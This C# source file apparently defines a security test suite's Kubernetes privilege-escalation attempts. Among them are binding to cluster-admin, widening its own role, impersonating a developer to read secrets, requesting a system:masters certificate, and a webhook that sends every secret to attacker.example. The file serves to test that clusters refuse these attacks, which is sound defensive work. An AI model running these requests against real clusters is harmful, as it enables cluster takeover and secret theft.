using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;

namespace SecuritySpecs.Drivers.Shared.Requests;

/// <content>Ways from a small right to all of them. Those that end elsewhere than in an answer really happen, and what they leave has a request that removes it.</content>
public sealed partial record TenantRequest
{
    /// <summary>The pod that "a pod that holds its secret" makes, and where it has the secret.</summary>
    public const string SecretHolder = "holder";

    private const string EscalationPhrases =
        "bind itself to cluster-admin|remove the cluster-admin binding|tidy up its own role|widen its own role|list the service accounts|read the secret as the developer"
        + "|watch the contents of the secrets|ask for a certificate|ask for a certificate of system:masters|read the labels of the namespace"
        + "|read the log of the pod through the kubelet|register a webhook that is sent every secret|register a folder of the node as a volume";

    private const string CertificatesGroup = "certificates.k8s.io";
    private const string Requests = "/apis/" + CertificatesGroup + "/v1/certificatesigningrequests";
    private const string ClusterRoles = "/apis/" + RbacVersion + "/clusterroles/";
    private const string ClusterRoleBindings = "/apis/" + RbacVersion + "/clusterrolebindings";

    private static IEnumerable<TenantRequest> Escalation =>
    [
        new("bind itself to cluster-admin", new("bind", "clusterroles", RbacGroup, "cluster-admin"), BindItselfAsync, ClusterScope: true,
            Refusal: GrantsTooMuch, Precondition: new("create", "clusterrolebindings", RbacGroup)),
        new("remove the cluster-admin binding", new("delete", "clusterrolebindings", RbacGroup), (api, whose) => api.DeleteAsync($"{ClusterRoleBindings}/{Escalated(whose)}"), ClusterScope: true),
        new("tidy up its own role", new("patch", "clusterroles", RbacGroup), (api, whose) => api.PatchAsync(OwnRole(whose) + "?dryRun=All", Labels("tidy")), ClusterScope: true),
        new("widen its own role", new("escalate", "clusterroles", RbacGroup), WidenAsync, ClusterScope: true, Refusal: GrantsTooMuch, Precondition: new("patch", "clusterroles", RbacGroup)),
        new("list the service accounts", new("list", "serviceaccounts"), (api, whose) => api.GetAsync(In(whose, "serviceaccounts")), MustContain: Tenant.ServiceAccount),
        new("read the secret as the developer", new("impersonate", "serviceaccounts", Name: Tenant.ServiceAccount), (api, whose) => api.As(whose.Developer.User).GetAsync(In(whose, SecretPath)),
            MustContain: Secret, Refusal: CannotImpersonate("get", "secrets")),
        new("watch the contents of the secrets", new("watch", "secrets"), (api, whose) => api.GetAsync(In(whose, "secrets?watch=1&resourceVersion=0&timeoutSeconds=1")), MustContain: Secret),
        new("ask for a certificate", new("create", "certificatesigningrequests", CertificatesGroup), (api, whose) => RequestCertificateAsync(api, whose, Subject(whose.Developer.User), dryRun: true), ClusterScope: true),
        new("ask for a certificate of system:masters", new("create", "certificatesigningrequests", CertificatesGroup),
            (api, whose) => RequestCertificateAsync(api, whose, Subject("anybody", "system:masters"), dryRun: true), ClusterScope: true),
        new("read the labels of the namespace", new("get", "namespaces"), (api, whose) => api.GetAsync($"/api/v1/namespaces/{whose.Namespace}"), MustContain: "security.specs/tenant"),
        new("read the log of the pod through the kubelet", new("get", "nodes/proxy"),
            (api, whose) => api.GetAsync($"/api/v1/nodes/{whose.Node}/proxy/containerLogs/{whose.Namespace}/{SecretHolder}/main"), ClusterScope: true),
        new("register a webhook that is sent every secret", new("create", "mutatingwebhookconfigurations", "admissionregistration.k8s.io"),
            (api, _) => DryRunAsync(api, "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations", "admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", Webhook()), ClusterScope: true),
        new("register a folder of the node as a volume", new("create", "persistentvolumes"), (api, _) => DryRunAsync(api, "/api/v1/persistentvolumes", "v1", "PersistentVolume", NodeFolder()), ClusterScope: true),
    ];

    private static string Escalated(Tenant whose) => whose.Namespace + "-escalated";

    // Where EscalationDriver gives the duty "role-editor".
    private static string OwnRole(Tenant whose) => $"{ClusterRoles}{whose.Namespace}-role-editor";

    private static Task<ApiAnswer> BindItselfAsync(KubeApi api, Tenant whose) => api.PostAsync(ClusterRoleBindings, new JsonObject
    {
        ["apiVersion"] = RbacVersion, ["kind"] = "ClusterRoleBinding",
        ["metadata"] = new JsonObject { ["name"] = Escalated(whose), ["labels"] = new JsonObject { [RunLabels.Run] = whose.RunId } },
        ["roleRef"] = new JsonObject { ["apiGroup"] = RbacGroup, ["kind"] = "ClusterRole", ["name"] = "cluster-admin" },
        ["subjects"] = new JsonArray(new JsonObject { ["kind"] = "ServiceAccount", ["name"] = Tenant.ServiceAccount, ["namespace"] = whose.Namespace }),
    });

    private static async Task<ApiAnswer> WidenAsync(KubeApi api, Tenant whose)
    {
        var role = await api.GetAsync(OwnRole(whose));
        if (!role.Allowed)
            return role;
        var rules = role.Body!["rules"]!.DeepClone().AsArray();
        rules.Add(new JsonObject { ["apiGroups"] = new JsonArray(""), ["resources"] = new JsonArray("secrets"), ["verbs"] = new JsonArray("get", "list") });
        return await api.PatchAsync(OwnRole(whose), new JsonObject { ["rules"] = rules });
    }

    private static X500DistinguishedName Subject(string name, string? group = null)
    {
        var subject = new X500DistinguishedNameBuilder();
        subject.AddCommonName(name);
        if (group is not null)
            subject.AddOrganizationName(group);
        return subject.Build();
    }

    private static Task<ApiAnswer> RequestCertificateAsync(KubeApi api, Tenant whose, X500DistinguishedName subject, bool dryRun)
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        return RequestCertificateAsync(api, whose, subject, key, dryRun);
    }

    private static Task<ApiAnswer> RequestCertificateAsync(KubeApi api, Tenant whose, X500DistinguishedName subject, ECDsa key, bool dryRun)
    {
        var request = new CertificateRequest(subject, key, HashAlgorithmName.SHA256).CreateSigningRequestPem();
        return api.PostAsync(Requests + (dryRun ? "?dryRun=All" : ""), new JsonObject
        {
            ["apiVersion"] = CertificatesGroup + "/v1", ["kind"] = "CertificateSigningRequest",
            ["metadata"] = new JsonObject { ["generateName"] = whose.Namespace + "-", ["labels"] = new JsonObject { [RunLabels.Run] = whose.RunId } },
            ["spec"] = new JsonObject
            {
                ["request"] = Convert.ToBase64String(Encoding.UTF8.GetBytes(request)), ["signerName"] = "kubernetes.io/kube-apiserver-client",
                // Known from 1.22 on; before that a certificate lives as long as the signer likes.
                ["expirationSeconds"] = 600, ["usages"] = new JsonArray("client auth"),
            },
        });
    }

    private static JsonObject Webhook() => new()
    {
        ["webhooks"] = new JsonArray(new JsonObject
        {
            ["name"] = "secrets.attacker.example", ["sideEffects"] = "None", ["admissionReviewVersions"] = new JsonArray("v1"),
            ["clientConfig"] = new JsonObject { ["url"] = "https://attacker.example/" },
            ["rules"] = new JsonArray(new JsonObject
            {
                ["apiGroups"] = new JsonArray(""), ["apiVersions"] = new JsonArray("v1"), ["resources"] = new JsonArray("secrets"), ["operations"] = new JsonArray("*"),
            }),
        }),
    };

    private static JsonObject NodeFolder() => new()
    {
        ["spec"] = new JsonObject
        {
            ["capacity"] = new JsonObject { ["storage"] = "1Gi" }, ["accessModes"] = new JsonArray("ReadWriteOnce"), ["hostPath"] = new JsonObject { ["path"] = "/var/lib/kubelet" },
        },
    };
}
